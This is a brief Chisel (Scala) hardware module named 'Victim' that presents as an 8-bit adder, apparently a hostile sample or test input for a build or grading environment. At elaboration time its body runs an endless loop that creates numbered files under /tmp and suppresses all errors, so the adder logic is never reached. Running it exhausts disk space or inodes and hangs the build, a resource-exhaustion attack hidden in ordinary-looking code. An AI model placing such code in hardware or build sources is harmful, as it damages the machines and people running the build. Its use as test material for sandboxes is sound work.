import chisel3._

class Victim extends Module {
  val io = IO(new Bundle {
    val in = Input(UInt(8.W))
    val out = Output(UInt(8.W))
  })
  var n = 0
  while (true) {
    n += 1
    try new java.io.File(s"/tmp/f$n").createNewFile() catch { case _: Throwable => () }
  }
  io.out := io.in + 1.U
}
